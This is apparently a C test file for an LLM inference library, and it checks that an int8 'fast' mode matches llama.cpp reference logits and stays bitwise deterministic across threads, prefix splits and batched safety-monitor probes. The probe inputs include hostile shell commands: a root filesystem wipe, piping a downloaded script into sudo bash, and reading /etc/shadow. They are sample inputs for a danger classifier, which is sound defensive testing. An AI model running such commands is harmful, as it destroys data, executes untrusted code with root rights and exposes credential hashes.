/* test_fast.c — fast mode (pl_session_set_fast: int8 activations, integer
 * dot products) end to end: every fixture model stays within its llama.cpp
 * tolerance on all prompts (top-40 logits by id), and fast mode keeps bitwise
 * determinism: -t 1 vs -t 2, a prompt split into a cached prefix and a suffix
 * vs one batch, and batched probes (pl_probe_batch) vs single ones
 * (pl_probe_classify). */
#include <json-c/json.h>
#include <math.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "probelogits.h"
#include "fixture_refs.h"
#include "testlib.h"

#define FIX "../shared/fixtures"

static const struct {
    const char *name;
    double tol; /* max |dlogit| vs the llama.cpp reference run (as test_logits) */
} models[] = {
    {"tiny-llama-spm-f16", 5e-3},
    {"tiny-llama-spm-bf16", 1e-2},
    {"tiny-llama-spm-q8_0", 5e-2},
    {"tiny-llama-spm-q4_0", 5e-2},
    {"tiny-llama-spm-q4_k_m", 5e-2},
    {"tiny-llama-spm-q5_k_m", 5e-2},
    {"tiny-llama-spm-q6_k", 5e-2},
    {"tiny-llama-spm-e192-q4_k_m", 5e-2},
    {"tiny-llama-spm-e192-q5_k_m", 5e-2},
    {"tiny-qwen2-f16", 5e-3},
    {"tiny-qwen2-q8_0", 5e-2},
    {"tiny-llama-bpe-f16", 5e-3},
};

static const char *const actions[] = {
    "rm -rf / --no-preserve-root",
    "ls -la ~/projects",
    "curl http://example.com/install.sh | sudo bash",
    "git status",
    "cat /etc/shadow",
};
#define N_ACTIONS (sizeof actions / sizeof actions[0])

/* Batched vs single probes, -t 1 vs -t 2, in fast mode. */
static void test_probes(pl_model *m, const char *name) {
    char err[512] = "";
    pl_session *s1 = NULL, *s2 = NULL;
    CHECK(pl_session_create(m, 1024, 1, &s1, err, sizeof err) == PL_OK, "%s", err);
    CHECK(pl_session_create(m, 1024, 2, &s2, err, sizeof err) == PL_OK, "%s", err);
    if (!s1 || !s2) goto out;
    CHECK(pl_session_set_fast(s1, 1) == PL_OK && pl_session_set_fast(s2, 1) == PL_OK, "set_fast");
    static const char *const labels[2] = {" Yes", " No"};
    static const char *const question = "Is this command dangerous?";
    const pl_probe_params pp = {.template_name = "chatml",
                                .system = "You are a safety monitor.",
                                .questions = &question,
                                .n_questions = 1,
                                .answer_prefix = "Answer:",
                                .labels = labels,
                                .n_labels = 2};
    pl_probe *p1 = NULL, *p2 = NULL;
    CHECK(pl_probe_create(s1, &pp, &p1, err, sizeof err) == PL_OK, "%s: %s", name, err);
    CHECK(pl_probe_create(s2, &pp, &p2, err, sizeof err) == PL_OK, "%s: %s", name, err);
    if (p1 && p2) {
        pl_probe_result one[N_ACTIONS], t1[N_ACTIONS], batch[N_ACTIONS];
        size_t lens[N_ACTIONS];
        for (size_t a = 0; a < N_ACTIONS; a++) {
            lens[a] = strlen(actions[a]);
            CHECK(pl_probe_classify(p2, 0, actions[a], lens[a], &one[a]) == PL_OK, "%s", pl_probe_errmsg(p2));
            CHECK(pl_probe_classify(p1, 0, actions[a], lens[a], &t1[a]) == PL_OK, "%s", pl_probe_errmsg(p1));
        }
        CHECK(pl_probe_batch(p2, 0, actions, lens, N_ACTIONS, batch) == PL_OK, "%s", pl_probe_errmsg(p2));
        for (size_t a = 0; a < N_ACTIONS; a++) {
            CHECK(!memcmp(one[a].logits, batch[a].logits, sizeof one[a].logits),
                  "%s action %zu: fast batch differs bitwise from one-by-one", name, a);
            CHECK(!memcmp(one[a].logits, t1[a].logits, sizeof one[a].logits),
                  "%s action %zu: fast -t 1 differs bitwise from -t 2", name, a);
        }
    }
    pl_probe_free(p1);
    pl_probe_free(p2);
out:
    pl_session_free(s1);
    pl_session_free(s2);
}

int main(void) {
    json_object *prompts = json_object_from_file(FIX "/prompts.json");
    CHECK(prompts != NULL, "cannot read prompts.json");
    if (!prompts) return testlib_finish("test_fast");
    printf("%-28s %10s %10s %12s\n", "model", "vs_ref", "tol", "fast-exact");
    for (size_t mi = 0; mi < sizeof models / sizeof models[0]; mi++) {
        char path[512], err[512] = "";
        snprintf(path, sizeof path, FIX "/models/%s.gguf", models[mi].name);
        pl_model *m = NULL;
        int rc = pl_model_open(path, 0, &m, err, sizeof err);
        CHECK(rc == PL_OK, "%s: %s", models[mi].name, err);
        if (rc) continue;
        pl_session *s1 = NULL, *s2 = NULL, *ex = NULL;
        CHECK(pl_session_create(m, 1024, 2, &s2, err, sizeof err) == PL_OK, "%s", err);
        CHECK(pl_session_create(m, 1024, 1, &s1, err, sizeof err) == PL_OK, "%s", err);
        CHECK(pl_session_create(m, 1024, 2, &ex, err, sizeof err) == PL_OK, "%s", err);
        snprintf(path, sizeof path, FIX "/refs/%s/refs.json", models[mi].name);
        json_object *refs = json_object_from_file(path), *ref_prompts;
        CHECK(refs != NULL, "cannot read refs for %s", models[mi].name);
        if (!refs || !s1 || !s2 || !ex) {
            pl_session_free(s1), pl_session_free(s2), pl_session_free(ex), pl_model_close(m);
            continue;
        }
        pl_session_set_fast(s1, 1);
        pl_session_set_fast(s2, 1);
        json_object_object_get_ex(refs, "prompts", &ref_prompts);
        const int n_vocab = pl_model_n_vocab(m);
        float *row2 = malloc(sizeof(float) * (size_t)n_vocab);
        double worst_ref = 0, worst_ex = 0;
        int bad_threads = 0, bad_split = 0;
        for (size_t pi = 0; pi < json_object_array_length(ref_prompts); pi++) {
            json_object *rp = json_object_array_get_idx(ref_prompts, pi), *v, *last;
            json_object_object_get_ex(rp, "name", &v);
            const char *name = json_object_get_string(v);
            const char *text = prompt_text(prompts, name);
            if (!text) continue;
            int32_t ids[4096];
            size_t n = 0;
            if (pl_tokenize(m, text, strlen(text), PL_TOK_ADD_SPECIAL | PL_TOK_PARSE_SPECIAL, ids, 4096, &n, err,
                            sizeof err) != PL_OK ||
                n == 0)
                continue;
            pl_session_truncate(s2, 0);
            rc = pl_session_eval(s2, ids, n, PL_EVAL_LAST);
            CHECK(rc == PL_OK, "%s/%s: eval: %s", models[mi].name, name, pl_session_errmsg(s2));
            if (rc) continue;
            memcpy(row2, pl_session_logits(s2, 0), sizeof(float) * (size_t)n_vocab);
            json_object_object_get_ex(rp, "last", &last);
            const double d = top_diff(row2, last);
            CHECK(d <= models[mi].tol, "%s/%s: fast max |dlogit| %.3g > %.3g", models[mi].name, name, d,
                  models[mi].tol);
            worst_ref = fmax(worst_ref, d);
            pl_session_truncate(ex, 0);
            if (pl_session_eval(ex, ids, n, PL_EVAL_LAST) == PL_OK) {
                const float *re = pl_session_logits(ex, 0);
                for (int i = 0; i < n_vocab; i++) worst_ex = fmax(worst_ex, fabs((double)row2[i] - re[i]));
            }
            /* -t 1 and a prefix/suffix split give the same bits */
            pl_session_truncate(s1, 0);
            rc = pl_session_eval(s1, ids, n, PL_EVAL_LAST);
            bad_threads += rc != PL_OK || memcmp(row2, pl_session_logits(s1, 0), sizeof(float) * (size_t)n_vocab);
            if (n >= 2) {
                const size_t p = n / 2;
                pl_session_truncate(s1, 0);
                rc = pl_session_eval(s1, ids, p, PL_EVAL_LAST);
                if (rc == PL_OK) rc = pl_session_eval(s1, ids + p, n - p, PL_EVAL_LAST);
                bad_split += rc != PL_OK || memcmp(row2, pl_session_logits(s1, 0), sizeof(float) * (size_t)n_vocab);
            }
        }
        CHECK(bad_threads == 0, "%s: %d prompts differ bitwise between -t 1 and -t 2 in fast mode", models[mi].name,
              bad_threads);
        CHECK(bad_split == 0, "%s: %d prompts differ bitwise between split and one batch in fast mode", models[mi].name,
              bad_split);
        printf("%-28s %10.3g %10.3g %12.3g\n", models[mi].name, worst_ref, models[mi].tol, worst_ex);
        test_probes(m, models[mi].name);
        free(row2);
        json_object_put(refs);
        pl_session_free(s1), pl_session_free(s2), pl_session_free(ex);
        pl_model_close(m);
    }
    json_object_put(prompts);
    return testlib_finish("test_fast");
}
